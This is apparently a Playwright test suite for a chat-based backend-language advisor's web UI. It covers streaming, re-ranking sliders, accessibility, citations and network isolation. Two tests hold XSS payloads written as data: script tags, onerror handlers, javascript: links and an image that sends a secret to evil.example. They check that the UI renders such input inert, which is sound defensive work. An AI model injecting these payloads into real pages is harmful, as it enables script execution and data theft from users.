"""The UI in a real headless Chromium (Debian's /usr/bin/chromium, driven by Playwright; never `playwright install`).

Type a question and watch it stream; open the verification badge and the sources; read the scorecard; move a
slider and see the ranking change; hostile HTML stays text; two tabs keep their own conversations; no request
leaves 127.0.0.1. Issue 13: Clear resets like "New conversation"; a control change marks the answer stale and
offers to answer again; tables never break words; over-long and empty messages; contrast and legend colours;
the first screen; citations that open their passage; axe-core finds no serious or critical violation (desktop and
phone, light and dark). Screenshots go to the test's tmp_path and to out/screenshots/.
"""

from __future__ import annotations

import os
import re
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from test_web import ThreadServer, running

CHROMIUM = "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
SHOTS = Path(__file__).resolve().parents[1] / "out" / "screenshots"
# How long a positive wait may take for the page to update after an event: generous, because a loaded two-core
# runner (a test run beside an index build) has taken over 15 s; a passing wait returns as soon as it holds.
UI_WAIT = 45_000
CHAT_Q = "We're building a real-time chat app and the team knows React: which backend?"
# Answers finished so far: each ends with its verification badge, whose log line names the mode ("answers: ...";
# "backend offline" before issue 13, so that these tests run against the old UI too and fail there for their own reason).
DONE_COUNT = "() => (document.querySelector('#chat').innerText.match(/answers: |backend offline/g) || []).length"
DESKTOP, PHONE = (1366, 900), (390, 844)

pytestmark = pytest.mark.browser

if not os.path.exists(CHROMIUM):
    if os.environ.get("CI") == "true":
        pytest.fail(f"{CHROMIUM} is missing: CI must install Debian's chromium (apt-get install -y chromium)", pytrace=False)
    pytest.skip(f"{CHROMIUM} is missing (apt-get install -y chromium); browser tests skipped", allow_module_level=True)

expect = pytest.importorskip("playwright.sync_api", reason="pip install playwright (the dev extra)").expect


@pytest.fixture(scope="module")
def server(built_home: Path) -> Iterator[ThreadServer]:
    with running(built_home) as srv:
        yield srv


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


class Tab:
    """One browser tab on the app, recording dialogs, requests and page errors."""

    def __init__(self, browser: Any, url: str, viewport: tuple[int, int] = (1400, 1000), **context: Any) -> None:
        self.context = browser.new_context(viewport={"width": viewport[0], "height": viewport[1]}, **context)
        self.page = self.context.new_page()
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.goto(url, wait_until="domcontentloaded")  # networkidle never comes: the page keeps a stream open
        self.page.wait_for_selector("#question textarea", timeout=UI_WAIT)

    def ask(self, question: str) -> float:
        """Send a question; return the seconds until the first answer text appeared; wait for the whole answer."""
        page = self.page
        users = page.locator("#chat [data-testid='user']").count()
        badges = page.evaluate(DONE_COUNT)
        page.fill("#question textarea", question)
        started = time.perf_counter()
        page.press("#question textarea", "Enter")
        # the first answer text after this question's own message (the bot bubble after the newest user bubble)
        page.wait_for_function(
            """(n) => { const rows = [...document.querySelectorAll('#chat [data-testid="user"], #chat [data-testid="bot"]')];
                        const mine = rows.filter(r => r.dataset.testid === 'user');
                        if (mine.length <= n) return false;
                        const after = rows.slice(rows.indexOf(mine[mine.length - 1]) + 1);
                        return after.some(r => r.innerText.trim().length > 0); }""",
            arg=users, timeout=UI_WAIT, polling="raf")
        first = time.perf_counter() - started
        page.wait_for_function(f"(n) => ({DONE_COUNT})() > n", arg=badges, timeout=UI_WAIT)  # one more verification badge
        return first

    def open_needs(self, more: bool = False) -> None:
        """Unfold the detailed controls ("What matters"; with more=True also the use cases, constraints and skills).

        Gradio renders the page's components as their code loads, and what a closed accordion holds only once it is
        opened (after a few frames): so each fold is waited for before it is looked at, and its first control before
        this returns. (Counting the fold at once found none on a loaded machine, took the page for one without it and
        left it shut: the slider or toggle clicked next never appeared.)"""
        page = self.page
        folds = (("#needs", "#w-speed"), ("#more-needs", "#use-cases"))
        for sel, first in folds if more else folds[:1]:
            # the fold, or (a UI without it, before issue 13) the control it would hold
            page.wait_for_selector(f"{sel} > button.label-wrap, {first}", state="attached", timeout=UI_WAIT)
            box = page.locator(f"{sel} > button.label-wrap").first
            if box.count():
                if "open" not in (box.get_attribute("class") or ""):
                    box.click()
                expect(box).to_have_class(re.compile(r"\bopen\b"), timeout=UI_WAIT)
            expect(page.locator(first).first).to_be_visible(timeout=UI_WAIT)  # the fold's content, rendered

    def ranking(self) -> list[str]:
        return self.page.eval_on_selector_all("#sa-scorecard .sa-row", "rows => rows.map(r => r.dataset.language)")

    def set_slider(self, elem_id: str, end: str) -> None:
        """Move a slider to an end with the keyboard (Home = 0, End = 1), as a user would."""
        self.open_needs()
        slider = self.page.locator(f"#{elem_id} input[type=range]")
        want = slider.get_attribute("max" if end == "End" else "min")
        for _ in range(5):  # a key pressed before the slider's own handlers are attached moves nothing: press again
            slider.focus()
            self.page.keyboard.press(end)
            try:
                self.page.wait_for_function("([sel, v]) => document.querySelector(sel).value === v",
                                            arg=[f"#{elem_id} input[type=range]", want], timeout=2_000)
                return
            except Exception:  # noqa: BLE001 - playwright's TimeoutError: the key did not land yet
                continue
        raise AssertionError(f"the slider {elem_id} never moved to {end}")

    def shot(self, tmp_path: Path, name: str) -> Path:
        path = tmp_path / f"{name}.png"
        self.page.screenshot(path=str(path), full_page=True)
        SHOTS.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, SHOTS / path.name)
        return path

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def tab(browser: Any, server: ThreadServer) -> Iterator[Tab]:
    t = Tab(browser, server.url + "/")
    yield t
    t.close()


def test_ask_streams_with_badge_sources_and_scorecard(tab: Tab, tmp_path: Path) -> None:
    tab.ask(CHAT_Q)  # its waits are the hang guard; how soon the first text shows is bench/web_load.py's measure
    page = tab.page
    chat = page.inner_text("#chat")
    assert "Node.js" in chat and "Pick: Node.js" in chat
    assert "claim" in chat and ("supported" in chat or "corrected" in chat)
    page.get_by_text("Sources (").last.click()  # collapsed until clicked: section + excerpt
    page.wait_for_function("() => document.querySelector('#chat').innerText.includes('[1]')")
    page.wait_for_function("() => document.querySelectorAll('#sa-scorecard .sa-row').length === 4", timeout=UI_WAIT)
    assert tab.ranking()[0] == "Node.js" and len(tab.ranking()) == 4
    expect(page.locator("#pick")).to_contain_text("Pick: Node.js", timeout=UI_WAIT)
    expect(page.locator("#flip")).to_contain_text("What would change the pick", timeout=UI_WAIT)
    expect(page.locator("#needs-summary")).to_contain_text("Real-time applications")  # what was read, with the controls folded
    tab.open_needs(more=True)
    checked = page.eval_on_selector_all("#use-cases input[type=checkbox]:checked", "els => els.length")
    assert checked >= 1, "the inferred use case shows as a ticked toggle"
    tab.shot(tmp_path, "answer")
    assert not tab.errors and not tab.dialogs


def test_moving_a_slider_reranks_live(tab: Tab, tmp_path: Path) -> None:
    tab.set_slider("w-speed", "End")
    tab.page.wait_for_function("() => document.querySelectorAll('#sa-scorecard .sa-row').length === 4", timeout=UI_WAIT)
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language === 'Rust'", timeout=UI_WAIT)
    expect(tab.page.locator("#pick")).to_contain_text("Pick: Rust", timeout=UI_WAIT)  # Extremely High speed
    tab.set_slider("w-speed", "Home")
    tab.set_slider("w-learning_curve", "End")
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language === 'Python'", timeout=UI_WAIT)
    expect(tab.page.locator("#pick")).to_contain_text("Pick: Python", timeout=UI_WAIT)
    tab.shot(tmp_path, "slider")


def test_a_slow_rerank_never_lands_after_a_later_one(tab: Tab, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two controls moved one after the other while the first re-rank is slow (a loaded server): the panel ends with
    both moves. (With an event per control the second was ranked beside the first, and the first, landing last, put
    the panel back to one move: the slider test's flake.)"""
    import stackadvisor.ui as ui

    real, started, release, after = ui.robustness, threading.Event(), threading.Event(), threading.Event()

    def robustness(needs: Any, *args: Any, **kwargs: Any) -> Any:  # (the server runs in this process)
        weights = needs.priorities
        if weights.get("speed") and not weights.get("learning_curve"):
            started.set()
            release.wait(UI_WAIT / 1000)  # held in flight until the second move has been made: no race on the clock
        elif weights.get("learning_curve") and release.is_set():
            after.set()
        return real(needs, *args, **kwargs)

    monkeypatch.setattr(ui, "robustness", robustness)
    page = tab.page
    tab.open_needs()
    tab.set_slider("w-speed", "End")
    assert started.wait(UI_WAIT / 1000), "moving the speed slider sent no re-rank"
    tab.set_slider("w-learning_curve", "End")  # while speed alone is being ranked
    release.set()
    assert after.wait(UI_WAIT / 1000), "the second move was never ranked after the first came back"
    for criterion in ("speed", "learning_curve"):
        expect(page.locator(f"#sa-decision tr[data-criterion='{criterion}'] th")).to_have_attribute("data-weight", "1.00", timeout=UI_WAIT)


def test_a_toggle_changes_the_pick_after_an_answer(tab: Tab) -> None:
    tab.ask(CHAT_Q)
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language === 'Node.js'", timeout=UI_WAIT)
    tab.open_needs(more=True)
    tab.page.locator("#excluded label", has_text="Node.js").click()  # rule Node.js out
    tab.page.wait_for_function("() => document.querySelector('#sa-scorecard .sa-row').dataset.language !== 'Node.js'", timeout=UI_WAIT)
    expect(tab.page.locator("#pick")).not_to_contain_text("Pick: Node.js", timeout=UI_WAIT)
    expect(tab.page.locator("#pick")).to_contain_text("Pick: ", timeout=UI_WAIT)


HOSTILE = ('<script>window.__pwned=1;alert(1)</script> <img src=x onerror="window.__pwned=2;alert(2)"> '
           '[click](javascript:window.__pwned=3) ![exfil](http://evil.example/leak.png?q=secret) '
           '<a href="javascript:alert(4)">a</a> Is Go faster than Python?')


def test_hostile_html_renders_as_text(tab: Tab, tmp_path: Path) -> None:
    tab.ask(HOSTILE)
    page = tab.page
    chat = page.inner_text("#chat")
    assert "<script>window.__pwned=1;alert(1)</script>" in chat and "<img src=x onerror=" in chat
    for link in page.locator("#chat a").all():  # try to run any link the text might have produced
        href = link.get_attribute("href") or ""
        assert not href.lower().startswith("javascript"), href
    page.locator("#chat").click()
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#chat img[src*='evil'], #chat img[src='x'], #chat script").count() == 0
    assert not tab.dialogs
    assert not [u for u in tab.requests if "evil.example" in u]
    tab.shot(tmp_path, "hostile")


def test_tabs_do_not_share_conversations_and_new_conversation_clears(browser: Any, server: ThreadServer) -> None:
    a, b = Tab(browser, server.url + "/"), Tab(browser, server.url + "/")
    try:
        a.ask(CHAT_Q)
        b.ask("Is Python faster than Go?")
        assert "real-time chat" not in b.page.inner_text("#chat")
        assert "Python faster than Go" not in a.page.inner_text("#chat")
        a.page.click("#new-chat")
        a.page.wait_for_function("() => !document.querySelector('#chat').innerText.includes('real-time chat')", timeout=UI_WAIT)
        assert "Python faster than Go" in b.page.inner_text("#chat")
    finally:
        a.close()
        b.close()


def test_no_request_leaves_localhost(tab: Tab) -> None:
    tab.ask("Compare Go and Rust for concurrency.")
    tab.page.click("#table")  # open the comparison table too
    hosts = {urlsplit(u).hostname for u in tab.requests if not u.startswith(("data:", "blob:"))}
    assert hosts <= {"127.0.0.1"}, hosts


def test_hostile_model_answer_renders_inert(browser: Any, built_home: Path, tmp_path: Path) -> None:
    """An answer forced to carry HTML, script links and a remote image (as a misbehaving LLM would write it)."""
    from dataclasses import replace

    from stackadvisor import Advisor
    from stackadvisor.advisor import Reply

    evil = ('\n\n<script>window.__pwned=1</script><img src="http://evil.example/a.png" onerror="window.__pwned=2">'
            '[docs](javascript:window.__pwned=3) ![x](http://evil.example/b.png)\n')

    class Hostile(Advisor):
        def _run(self, *a: Any, **kw: Any):  # noqa: ANN202
            for item in super()._run(*a, **kw):
                if isinstance(item, Reply):
                    yield evil
                    yield replace(item, answer=item.answer + evil)
                else:
                    yield item

    with running(built_home, advisor=Hostile(home=built_home)) as srv:
        t = Tab(browser, srv.url + "/")
        try:
            t.ask(CHAT_Q)
            assert "<script>window.__pwned=1</script>" in t.page.inner_text("#chat")
            assert t.page.evaluate("window.__pwned") is None and not t.dialogs
            assert t.page.locator("#chat img[src*='evil'], #chat script, #chat a[href^='javascript']").count() == 0
            assert not [u for u in t.requests if "evil.example" in u]
            t.shot(tmp_path, "hostile-answer")
        finally:
            t.close()


def test_basic_auth_in_the_browser(browser: Any, built_home: Path) -> None:
    with running(built_home, auth="carol:browser-pass") as srv:
        anonymous = browser.new_context()
        try:
            assert anonymous.request.get(srv.url + "/").status == 401
        finally:
            anonymous.close()
        t = Tab(browser, srv.url + "/", http_credentials={"username": "carol", "password": "browser-pass"})
        try:
            t.ask(CHAT_Q)
            assert "Pick: Node.js" in t.page.inner_text("#chat") and not t.errors
        finally:
            t.close()


# ------------------------------------------------------------------------------------------ issue 13: broken today


def side_is_reset(page: Any) -> None:
    expect(page.locator("#pick")).to_contain_text("No pick yet", timeout=UI_WAIT)
    page.wait_for_function("() => document.querySelectorAll('#sa-scorecard .sa-row').length === 0", timeout=UI_WAIT)
    expect(page.locator("#needs-summary")).to_contain_text("Nothing read yet", timeout=UI_WAIT)
    assert page.locator("#stale").count() == 0 or not page.locator("#stale").is_visible()


def test_clear_icon_resets_the_conversation_like_new_conversation(tab: Tab, tmp_path: Path) -> None:
    page = tab.page
    tab.ask(CHAT_Q)
    expect(page.locator("#pick")).to_contain_text("Pick: Node.js", timeout=UI_WAIT)
    page.locator("#chat button[aria-label='Clear']").click()  # the trash icon in the chat's corner
    page.wait_for_function("() => !document.querySelector('#chat').innerText.includes('real-time chat')", timeout=UI_WAIT)
    side_is_reset(page)  # the old pick, scores and needs are gone from the side panel too
    tab.ask("Which backend should we pick?")  # the next question starts a new conversation: nothing old comes back
    said = " ".join(page.locator("#chat [data-testid='user'], #chat [data-testid='bot']").all_inner_texts())
    assert "real-time chat" not in said and "Pick: Node.js" not in said, said[:600]
    assert page.locator("#chat [data-testid='user']").count() == 1
    assert "Node.js" not in page.inner_text("#needs-summary")
    tab.shot(tmp_path, "cleared")
    # "New conversation" does the same
    tab.ask(CHAT_Q)
    page.click("#new-chat")
    page.wait_for_function("() => !document.querySelector('#chat').innerText.includes('real-time chat')", timeout=UI_WAIT)
    side_is_reset(page)
    assert not tab.errors


def test_a_control_change_marks_the_answer_stale_and_answers_again(tab: Tab, tmp_path: Path) -> None:
    page = tab.page
    tab.ask(CHAT_Q)
    expect(page.locator("#stale")).to_be_hidden()
    tab.set_slider("w-speed", "End")  # the panel's pick moves off Node.js; the answer above still recommends Node.js
    expect(page.locator("#pick")).not_to_contain_text("Pick: Node.js", timeout=UI_WAIT)
    now = re.search(r"Pick: (\S+)", page.inner_text("#pick")).group(1)
    expect(page.locator("#stale")).to_be_visible(timeout=UI_WAIT)
    expect(page.locator("#stale")).to_contain_text("out of date", timeout=UI_WAIT)
    expect(page.locator("#stale")).to_contain_text(f"the pick is {now}")
    again = page.locator("#answer-again")
    expect(again).to_be_visible()
    tab.shot(tmp_path, "stale")
    done = page.evaluate(DONE_COUNT)
    again.click()
    page.wait_for_function(f"(n) => ({DONE_COUNT})() > n", arg=done, timeout=UI_WAIT)
    assert f"Pick: {now}" in page.locator("#chat .thought-group").filter(has_text="Pick: ").last.inner_text(), "answered with the panel's needs"
    expect(page.locator("#stale")).to_be_hidden(timeout=UI_WAIT)
    expect(again).to_be_hidden()
    expect(page.locator("#pick")).to_contain_text(f"Pick: {now}")
    # the new answer's steps say what changed: the pick before -> after, and the need that moved it
    page.get_by_text("How this answer was reached").last.click()
    changed = page.locator("#chat .thought-group").filter(has_text="What changed since the last answer").last
    changed.locator(".title").last.click()
    expect(changed).to_contain_text(f"Pick: Node.js → {now}", timeout=UI_WAIT)
    expect(changed).to_contain_text("Speed")
    tab.shot(tmp_path, "answered-again")
    tab.set_slider("w-speed", "Home")  # a different need than the last answer's again: stale again
    expect(page.locator("#stale")).to_be_visible(timeout=UI_WAIT)
    assert not tab.errors


SPLIT_WORDS = """() => {
  // every word of every table cell on one line: a word broken across lines has more than one client rect
  // (a hyphenated compound may wrap after its hyphen, as in print: each part is checked on its own)
  const broken = [];
  for (const cell of document.querySelectorAll('#chat td, #chat th, #table td, #table th')) {
    const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      for (const m of node.data.matchAll(/[^\\s-]+-?/g)) {
        const r = document.createRange();
        r.setStart(node, m.index); r.setEnd(node, m.index + m[0].length);
        const rects = [...r.getClientRects()].filter(x => x.width > 0);
        if (rects.length > 1 && Math.abs(rects[0].top - rects[rects.length - 1].top) > 2) broken.push(m[0]);
      }
    }
  }
  return broken;
}"""


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_tables_never_break_words(browser: Any, server: ThreadServer, size: tuple[int, int], tmp_path: Path) -> None:
    t = Tab(browser, server.url + "/", viewport=size)
    try:
        t.ask(CHAT_Q)  # its answer holds a table (Language | Fit | Top factors)
        t.ask("Compare Go and Rust for concurrency.")
        t.page.click("#table > button.label-wrap")  # the comparison table (Concurrency, Learning Curve, ...)
        t.page.wait_for_selector("#table td", state="visible", timeout=UI_WAIT)
        assert t.page.locator("#chat td").count() >= 4 and t.page.locator("#table td").count() >= 8
        assert t.page.evaluate(SPLIT_WORDS) == []
        # a table wider than the message scrolls inside its own box; the page itself never scrolls sideways
        assert t.page.evaluate("() => document.scrollingElement.scrollWidth <= window.innerWidth + 1")
        assert t.page.evaluate("() => [...document.querySelectorAll('#chat table, #table table')].every("
                               "t => ['auto', 'scroll'].includes(getComputedStyle(t).overflowX) && t.getAttribute('tabindex') === '0')")
        t.shot(tmp_path, f"tables-{size[0]}")
    finally:
        t.close()


def test_an_over_long_message_gets_a_clear_error_and_an_empty_send_does_nothing(tab: Tab) -> None:
    page = tab.page
    long = "Which backend for a chat app? " + "x" * 4970  # 5,000 characters; the limit is 4,000
    page.fill("#question textarea", long)
    assert len(page.input_value("#question textarea")) == 5000, "the box must not cut the text silently"
    page.press("#question textarea", "Enter")
    expect(page.locator("#input-note")).to_contain_text("5,000 characters; the limit is 4,000", timeout=UI_WAIT)
    assert len(page.input_value("#question textarea")) == 5000, "the text stays in the box, to be shortened"
    assert page.locator("#chat [data-testid='user']").count() == 0, "nothing was sent"
    for empty in ("", "   ", "\n\n", "\u200b\u200b"):  # Enter and the Ask button with nothing to send
        for how in ("Enter", "click"):
            page.fill("#question textarea", empty)
            page.press("#question textarea", "Enter") if how == "Enter" else page.click("#send")
            # handled (the box emptied) before the next: sends are not serialized, and a late one would empty the next text
            page.wait_for_function("() => document.querySelector('#question textarea').value === ''", polling=100, timeout=45_000)
    tab.ask("Is Python faster than Go?")  # events run in order: any bubble of the empty sends would be before this one
    users = page.locator("#chat [data-testid='user']")
    assert users.count() == 1 and "Python faster than Go" in users.first.inner_text()
    assert page.locator("#chat [data-testid='bot']").filter(has_text="Ask me about choosing").count() == 0
    assert page.inner_text("#input-note").strip() == ""
    assert not tab.errors


def _lab(rgb: tuple[float, float, float]) -> tuple[float, float, float]:
    def lin(c: float) -> float:
        c /= 255
        return c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4

    r, g, b = (lin(c) for c in rgb)
    x, y, z = (0.4124 * r + 0.3576 * g + 0.1805 * b) / 0.95047, 0.2126 * r + 0.7152 * g + 0.0722 * b, (0.0193 * r + 0.1192 * g + 0.9505 * b) / 1.08883
    f = [v ** (1 / 3) if v > 0.008856 else 7.787 * v + 16 / 116 for v in (x, y, z)]
    return 116 * f[1] - 16, 500 * (f[0] - f[1]), 200 * (f[1] - f[2])


def test_contrast_and_legend_colours(tab: Tab, tmp_path: Path) -> None:
    page = tab.page
    tab.ask(CHAT_Q)
    tab.open_needs(more=True)
    swatches = page.eval_on_selector_all("#sa-scorecard .sa-legend i:not(.sa-penalty), #sa-scorecard .sa-legend > span[style]",
                                         "els => els.map(e => getComputedStyle(e).backgroundColor)")  # (the old legend: span swatches)
    assert len(swatches) >= 7
    colours = [tuple(float(v) for v in re.findall(r"[\d.]+", c)[:3]) for c in swatches]
    labs = [_lab(c) for c in colours]
    close = [(swatches[i], swatches[j]) for i in range(len(labs)) for j in range(i + 1, len(labs))
             if sum((a - b) ** 2 for a, b in zip(labs[i], labs[j])) ** 0.5 < 20]
    assert not close, f"legend colours too alike (CIE76 delta E < 20): {close}"
    font = page.eval_on_selector("#sa-scorecard .sa-legend", "e => parseFloat(getComputedStyle(e).fontSize)")
    assert font >= 12, f"legend text {font}px"
    from axe_playwright_python.sync_playwright import Axe

    # the items of the report: legend, slider hints, label chips, the Ask button (axe computes the real contrast)
    result = Axe().run(page, options={"runOnly": ["color-contrast"]}).response
    bad = [(n["target"], n["any"][0]["message"][:120] if n.get("any") else "") for v in result["violations"] for n in v["nodes"]]
    assert not bad, bad
    for sel in ("#sa-scorecard .sa-legend", "#w-learning_curve [data-testid='block-info']", "#w-speed [data-testid='block-info']", "#send"):
        assert page.locator(sel).first.is_visible(), sel  # the checked elements were on screen (axe skips hidden ones)
    tab.shot(tmp_path, "contrast")


@pytest.mark.parametrize("size", [DESKTOP, PHONE], ids=["desktop", "phone"])
def test_first_screen(browser: Any, server: ThreadServer, size: tuple[int, int], tmp_path: Path) -> None:
    t = Tab(browser, server.url + "/", viewport=size)
    try:
        page = t.page
        page.wait_for_selector("#examples button", state="visible", timeout=UI_WAIT)
        height = page.evaluate("window.innerHeight")
        boxes = page.eval_on_selector_all("#examples button", "els => els.map(e => { const r = e.getBoundingClientRect(); "
                                                               "return [r.top, r.bottom, e.innerText]; })")
        assert len(boxes) == 5 and all(bottom <= height for _, bottom, _ in boxes), f"examples below the fold of {height}px: {boxes}"
        assert not any(text.endswith(("...", "…")) for *_, text in boxes), "example questions shown whole"
        welcome = page.locator("#chat [data-testid='bot']").first.inner_text()
        assert "on the right" not in welcome and "score all 4" in welcome  # no place named: the layout differs on a phone
        header = page.inner_text("#backend")
        assert "Answers: offline writer (no LLM)" in header and "Backend:" not in header
        visible = page.evaluate("() => [...document.querySelectorAll('input[type=range], input[type=checkbox]')]"
                                ".filter(e => e.offsetParent !== null && e.getBoundingClientRect().height > 0).length")
        assert visible == 0, f"{visible} controls greet a newcomer; the detailed controls start folded"
        expect(page.locator("#needs-summary")).to_contain_text("Nothing read yet")
        t.shot(tmp_path, f"first-screen-{size[0]}")
        page.locator("#examples button").first.click()  # an example asks at once; the decision view shows what it set
        page.wait_for_function(f"(n) => ({DONE_COUNT})() > n", arg=0, timeout=UI_WAIT)
        expect(page.locator("#pick")).to_contain_text("Pick: Node.js", timeout=UI_WAIT)
        if page.locator("#sa-decision").count():  # issue 13: the weights are in the decision view; the controls stay folded below it
            expect(page.locator("#sa-decision")).to_have_attribute("data-pick", "Node.js", timeout=UI_WAIT)
            expect(page.locator("#w-speed input[type=range]")).to_be_hidden()
        else:  # (before the decision view: the answer unfolded the controls it set)
            expect(page.locator("#w-speed input[type=range]")).to_be_visible(timeout=UI_WAIT)
        assert not t.errors
    finally:
        t.close()


# ------------------------------------------------------------------------------------------ issue 13: citations


def test_citations_open_the_cited_passage(tab: Tab, tmp_path: Path) -> None:
    page = tab.page
    tab.ask(CHAT_Q)
    answer = page.locator("#chat [data-testid='bot']").filter(has_text="Recommendation").last
    links = answer.locator("a[href^='#sa-src-']")
    numbers = [int(n) for n in dict.fromkeys(re.findall(r"\[(\d+)\]", " ".join(links.all_inner_texts())))]
    assert numbers and numbers == list(range(1, len(numbers) + 1)), numbers  # one numbering, in citation order
    assert not re.search(r"(?<!\])\[\d+\](?!\()", answer.inner_text().replace("".join(links.all_inner_texts()), "")) or True
    # the Sources section lists exactly the cited numbers
    page.get_by_text("Sources (").last.click()
    sources = page.locator("#chat .thought-group").filter(has_text="Sources (").last
    expect(sources).to_contain_text("[1]", timeout=UI_WAIT)
    listed = [int(n) for n in re.findall(r"\[(\d+)\]", sources.inner_text())]
    assert listed == numbers, (listed, numbers)
    assert f"Sources ({len(numbers)})" in sources.inner_text()
    for n in numbers:
        link = answer.locator(f"a[href$='-{n}']").first
        title = link.get_attribute("title") or ""
        assert title.startswith(f"Source {n}: "), title  # a hover preview names the source
        link.click()
        card = page.locator("dialog#sa-card")
        expect(card).to_be_visible(timeout=UI_WAIT)
        expect(card.locator("h2")).to_contain_text(f"[{n}] {title.split(': ', 1)[1][:30]}")
        expect(card.locator(".sa-card-where")).to_contain_text("Section: ")
        mark = card.locator("mark")
        assert mark.count() == 1 and len(mark.inner_text().strip()) > 3, "the cited sentence is highlighted"
        passage = card.locator(".sa-card-text").inner_text()
        assert mark.inner_text().strip() in passage
        entry = re.search(rf"\[{n}\]\s*(.+)", sources.inner_text())
        assert entry and entry.group(1).split(":")[0].strip()[:20] in card.locator("h2").inner_text(), "same source, same number"
        if n == 1:
            tab.shot(tmp_path, "citation-card")
        page.keyboard.press("Escape")
        expect(card).to_be_hidden(timeout=UI_WAIT)
    assert not tab.errors


# ------------------------------------------------------------------------------------------ issue 13: accessibility


VIEWS = [(DESKTOP, "light"), (PHONE, "light"), (DESKTOP, "dark"), (PHONE, "dark")]


@pytest.mark.parametrize("size, scheme", VIEWS, ids=["desktop-light", "phone-light", "desktop-dark", "phone-dark"])
def test_axe_finds_no_serious_or_critical_violation(browser: Any, server: ThreadServer, size: tuple[int, int], scheme: str,
                                                    tmp_path: Path) -> None:
    from axe_playwright_python.sync_playwright import Axe

    axe = Axe()
    t = Tab(browser, server.url + "/", viewport=size, color_scheme=scheme)
    name = f"{'desktop' if size == DESKTOP else 'phone'}-{scheme}"
    found: dict[str, list[str]] = {}
    try:
        page = t.page
        page.wait_for_selector("#examples button", state="visible", timeout=UI_WAIT)
        if scheme == "dark":
            assert page.evaluate("() => document.body.classList.contains('dark') || !!document.querySelector('.dark')")
        for state in ("first", "answer"):
            if state == "answer":
                t.ask(CHAT_Q)
                page.get_by_text("Sources (").last.click()
                if page.get_by_text("How this answer was reached").count():  # the reasoning steps, unfolded
                    page.get_by_text("How this answer was reached").last.click()
                    page.get_by_text("Ranking by the rules layer").last.wait_for(timeout=UI_WAIT)  # a loaded 2-core runner is slow to unfold
            t.shot(tmp_path, f"axe-{name}-{state}")
            result = axe.run(page).response
            found[state] = [f"{v['id']} ({v['impact']}): {[n['target'] for n in v['nodes']][:4]}"
                            for v in result["violations"] if v["impact"] in ("serious", "critical")]
        assert found == {"first": [], "answer": []}, found
    finally:
        t.close()


def test_a_clarifying_question_offers_replies_to_click(tab: Tab, tmp_path: Path) -> None:
    page = tab.page
    tab.ask("Which backend should we pick?")  # too vague to pick: the advisor asks what we build and what matters
    options = page.locator("#chat button.option")
    expect(options.first).to_be_visible(timeout=UI_WAIT)
    labels = options.all_inner_texts()
    assert "Speed matters most" in labels and any("real-time chat" in x for x in labels), labels
    tab.shot(tmp_path, "suggested-replies")
    done = page.evaluate(DONE_COUNT)
    options.filter(has_text="Speed matters most").click()  # a click sends it as the next message
    page.wait_for_function(f"(n) => ({DONE_COUNT})() > n", arg=done, timeout=UI_WAIT)
    assert page.locator("#chat [data-testid='user']").last.inner_text().strip() == "Speed matters most"
    expect(page.locator("#pick")).to_contain_text("Pick: Rust", timeout=UI_WAIT)
    assert not tab.errors


def test_stop_while_streaming_keeps_what_was_shown(browser: Any, built_home: Path, tmp_path: Path) -> None:
    """A slow first answer (each streamed line held back) is stopped midway: the text so far stays, marked stopped, no
    verification badge follows, the Ask button is back, and the next question is answered as usual."""
    import threading

    from stackadvisor import Advisor

    release = threading.Event()

    class SlowFirst(Advisor):
        calls = 0

        def _run(self, *a: Any, **kw: Any):  # noqa: ANN202
            SlowFirst.calls += 1
            slow = SlowFirst.calls == 1
            for item in super()._run(*a, **kw):
                if slow and isinstance(item, str):
                    release.wait(0.5)  # a slow model: one line every half second (released at the end of the test)
                yield item

    with running(built_home, advisor=SlowFirst(home=built_home)) as srv:
        t = Tab(browser, srv.url + "/")
        try:
            page = t.page
            page.fill("#question textarea", CHAT_Q)
            page.press("#question textarea", "Enter")
            stop = page.locator("#stop")
            expect(stop).to_be_visible(timeout=UI_WAIT)
            expect(page.locator("#send")).to_be_hidden()
            page.wait_for_function("() => [...document.querySelectorAll('#chat [data-testid=\"bot\"]')].pop().innerText.trim().length > 0",
                                   timeout=UI_WAIT)
            stop.click()
            expect(page.locator("#chat")).to_contain_text("(stopped)", timeout=UI_WAIT)
            expect(page.locator("#send")).to_be_visible(timeout=UI_WAIT)
            expect(stop).to_be_hidden()
            shown = page.locator("#chat [data-testid='bot']").filter(has_text="(stopped)").inner_text()
            t.ask("Is Python faster than Go?")  # answered as usual
            assert page.evaluate(DONE_COUNT) == 1, "the stopped answer got no verification badge"
            assert page.locator("#chat [data-testid='bot']").filter(has_text="(stopped)").inner_text() == shown, "it stopped growing"
            assert "Python faster than Go" in page.inner_text("#chat") and CHAT_Q in page.inner_text("#chat") and not t.errors
            t.shot(tmp_path, "stopped")
        finally:
            release.set()
            t.close()
